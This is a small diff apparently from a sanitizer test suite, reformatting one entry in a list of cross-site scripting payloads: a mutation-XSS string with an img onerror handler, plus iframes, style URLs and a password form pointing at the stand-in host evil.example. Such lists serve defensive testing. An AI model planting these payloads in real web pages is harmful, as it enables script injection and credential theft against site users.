@@ -385,8 +385,8 @@ PAYLOADS = [
     "<a href='\\\\evil.example'>x</a>",
     "<iframe src='https://evil.example'></iframe>",
     (
-        "<math><mtext><table><mglyph><style><img src=x"
-        " onerror=alert(1)></style></mglyph></table></mtext></math>"
+        "<math><mtext><table><mglyph><style>"
+        "<img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"
     ),
     "<p style='background:url(https://evil.example)' onclick='alert(1)'>x</p>",
     "<form action='https://evil.example'><input name=password></form>",
